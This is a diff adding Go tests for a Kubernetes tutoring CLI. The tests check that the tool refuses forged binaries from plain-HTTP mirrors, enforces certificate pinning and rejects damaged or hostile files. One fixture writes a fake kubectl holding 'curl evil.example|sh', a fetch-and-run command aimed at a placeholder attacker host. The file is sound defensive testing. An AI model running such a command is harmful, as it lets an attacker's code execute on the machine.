@@ -1,0 +1,187 @@
+package cli
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/kubetutor/kubetutor/internal/fetch"
+	"github.com/kubetutor/kubetutor/internal/room"
+)
+
+// forgedMirror is a mirror directory whose kubectl is a 33-byte shell
+// script, with a .sha256 that matches it.
+func forgedMirror(t *testing.T) string {
+	dir, _ := mirrorOnDisk(t)
+	forged := []byte("#!/bin/sh\ncurl evil.example|sh\n#")
+	p := filepath.Join(dir, "kubernetes/v1.37.2/bin/linux/amd64/kubectl")
+	os.WriteFile(p, forged, 0o755)
+	os.WriteFile(p+".sha256", []byte(sha256hex(forged)), 0o644)
+	return dir
+}
+
+// joinedRoom writes the room file of a learner who joined the room at base,
+// pinning fingerprint, as room join does.
+func joinedRoom(t *testing.T, state, base, fingerprint string) {
+	data, _ := json.Marshal(room.State{URL: base, Name: "Ada", ID: "0123456789abcdef", Secret: "secret", Fingerprint: fingerprint})
+	if err := os.WriteFile(filepath.Join(state, room.StateFile), data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestDefects18 has the command-line cases of issue 18 ("hostile input,
+// round two"); the package cases are in internal/fetch, internal/room and
+// lessons.
+func TestDefects18(t *testing.T) {
+	cases := []defectCase{
+		{
+			name: "2 a plain-HTTP mirror serving a forged kubectl with its matching .sha256",
+			setup: func(d *defectEnv) []string {
+				noOS(d.t)
+				srv := httptest.NewServer(fetch.Handler(forgedMirror(d.t), nil))
+				d.cleanup = append(d.cleanup, srv.Close)
+				return []string{"fetch", "--mirror", srv.URL, "--arch", "amd64", "kubernetes"}
+			},
+			code:   2,
+			want:   []string{"refusing the plain-HTTP mirror http://127.0.0.1:", "or pass --insecure-mirror to take that risk"},
+			absent: []string{"kubectl: 33 B ok"},
+			after: func(t *testing.T, d *defectEnv) {
+				if _, err := os.Stat(d.path("bin/kubectl")); err == nil {
+					t.Error("bin/kubectl was installed from the forged mirror")
+				}
+			},
+		},
+		{
+			name: "2 --insecure-mirror says what it risks",
+			setup: func(d *defectEnv) []string {
+				noOS(d.t)
+				dir, _ := mirrorOnDisk(d.t)
+				srv := httptest.NewServer(fetch.Handler(dir, nil))
+				d.cleanup = append(d.cleanup, srv.Close)
+				return []string{"fetch", "--mirror", srv.URL, "--insecure-mirror", "--arch", "amd64", "kubernetes"}
+			},
+			want: []string{"warning: --insecure-mirror: http://127.0.0.1:", "is plain HTTP and nothing authenticates it", "kubectl: 41 B ok"},
+		},
+		{
+			name: "2 the joined room's HTTPS mirror is pinned to the room's certificate",
+			setup: func(d *defectEnv) []string {
+				noOS(d.t)
+				dir, _ := mirrorOnDisk(d.t)
+				mux := http.NewServeMux()
+				mux.Handle("/mirror/", http.StripPrefix("/mirror", fetch.Handler(dir, nil)))
+				srv := httptest.NewTLSServer(mux)
+				d.cleanup = append(d.cleanup, srv.Close)
+				sum := sha256.Sum256(srv.Certificate().Raw)
+				joinedRoom(d.t, d.state, srv.URL, hex.EncodeToString(sum[:]))
+				return []string{"fetch", "--mirror", srv.URL + "/mirror", "--arch", "amd64", "kubernetes"}
+			},
+			want: []string{"kubectl: 41 B ok"},
+		},
+		{
+			name: "2 an HTTPS mirror with another certificate than the room's",
+			setup: func(d *defectEnv) []string {
+				noOS(d.t)
+				mux := http.NewServeMux()
+				mux.Handle("/mirror/", http.StripPrefix("/mirror", fetch.Handler(forgedMirror(d.t), nil)))
+				srv := httptest.NewTLSServer(mux)
+				d.cleanup = append(d.cleanup, srv.Close)
+				joinedRoom(d.t, d.state, srv.URL, hex.EncodeToString(make([]byte, 32)))
+				return []string{"fetch", "--mirror", srv.URL + "/mirror", "--arch", "amd64", "kubernetes"}
+			},
+			code: 1,
+			want: []string{"not the room's pinned", "this is not the instructor's room"},
+			after: func(t *testing.T, d *defectEnv) {
+				if _, err := os.Stat(d.path("bin/kubectl")); err == nil {
+					t.Error("bin/kubectl was installed")
+				}
+			},
+		},
+		{
+			name: "2 an HTTPS room mirror before joining the room",
+			setup: func(d *defectEnv) []string {
+				noOS(d.t)
+				srv := httptest.NewTLSServer(fetch.Handler(forgedMirror(d.t), nil))
+				d.cleanup = append(d.cleanup, srv.Close)
+				return []string{"fetch", "--mirror", srv.URL, "--arch", "amd64", "kubernetes", "--stall-timeout", "5s"}
+			},
+			code: 1,
+			want: []string{"certificate", "hint: a room's mirror has the room's own certificate: run the room join command the instructor gave first"},
+		},
+		{
+			name: "3 room serve --mirror-dir /",
+			setup: func(d *defectEnv) []string {
+				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--mirror-dir", "/"}
+			},
+			code: 2,
+			want: []string{"--mirror-dir: serve /: that is the whole file system"},
+		},
+		{
+			name: "3 room serve with the room's data inside the mirror",
+			setup: func(d *defectEnv) []string {
+				os.MkdirAll(d.path("mirror"), 0o755)
+				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--mirror-dir", d.path("mirror"), "--data", d.path("mirror/room")}
+			},
+			code: 2,
+			want: []string{"overlap: the mirror would be next to the room's tokens and key"},
+		},
+		{
+			name: "4 room serve on a room.db cut short",
+			setup: func(d *defectEnv) []string {
+				os.MkdirAll(d.path("c"), 0o700)
+				os.WriteFile(d.path("c/room.db"), make([]byte, 100000), 0o600)
+				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--data", d.path("c")}
+			},
+			code: 1,
+			want: []string{"the room's database " + "", "room.db is damaged (", "move it aside (mv "},
+		},
+		{
+			name: "4 room serve on a FIFO as room.db",
+			setup: func(d *defectEnv) []string {
+				os.MkdirAll(d.path("c"), 0o700)
+				d.fifo("c/room.db")
+				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--data", d.path("c")}
+			},
+			code:   1,
+			want:   []string{"room.db is a named pipe (FIFO), not a regular file"},
+			absent: []string{"illegal seek"},
+		},
+		{
+			name: "5 room serve --tls on a damaged tls.crt",
+			setup: func(d *defectEnv) []string {
+				os.MkdirAll(d.path("c"), 0o700)
+				if _, _, err := room.Certificate(d.path("c"), []string{"localhost"}, false); err != nil {
+					d.t.Fatal(err)
+				}
+				d.keepBytes(d.path("c/tls.key"))
+				os.WriteFile(d.path("c/tls.crt"), []byte("-----BEGIN CERTIFICATE-----\ndamaged\n"), 0o644)
+				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--tls", "--data", d.path("c")}
+			},
+			code: 1,
+			want: []string{"learners pinned its fingerprint, so a new certificate would cut every one of them off without a word", "--new-certificate"},
+		},
+		{
+			name: "5 room serve --tls on a FIFO as tls.crt",
+			setup: func(d *defectEnv) []string {
+				os.MkdirAll(d.path("c"), 0o700)
+				room.Certificate(d.path("c"), []string{"localhost"}, false)
+				os.Remove(d.path("c/tls.crt"))
+				d.fifo("c/tls.crt")
+				return []string{"room", "serve", "--addr", "127.0.0.1:0", "--tls", "--data", d.path("c")}
+			},
+			code: 1,
+			want: []string{"tls.crt is a named pipe (FIFO), not a regular file"},
+		},
+		{
+			name:  "5 --new-certificate without --tls",
+			setup: args("room", "serve", "--addr", "127.0.0.1:0", "--new-certificate"),
+			code:  2,
+			want:  []string{"--new-certificate replaces the TLS certificate kept in --data: give --tls and --data too"},
+		},
+	}
+	runDefectCases(t, cases)
+}
